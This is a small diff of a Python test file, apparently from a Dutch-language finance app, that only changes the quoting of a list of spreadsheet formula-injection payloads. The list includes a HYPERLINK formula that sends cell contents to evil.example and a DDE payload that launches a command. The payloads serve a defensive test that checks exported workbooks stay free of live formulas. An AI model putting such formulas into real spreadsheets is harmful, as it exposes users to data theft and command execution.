@@ -191,7 +191,7 @@ def test_provider_pdf_tables_fit_the_page(region: None, db: None) -> None:
     assert "Bandbreedte hoog (90%)" in headings["prognose"] and "Betaald" in headings["grootboek"]
 
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/\"&A1,\"klik\")", "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]
+HOSTILE = ['=HYPERLINK("http://evil.example/"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]
 
 
 def test_no_text_becomes_a_formula_in_a_workbook() -> None:
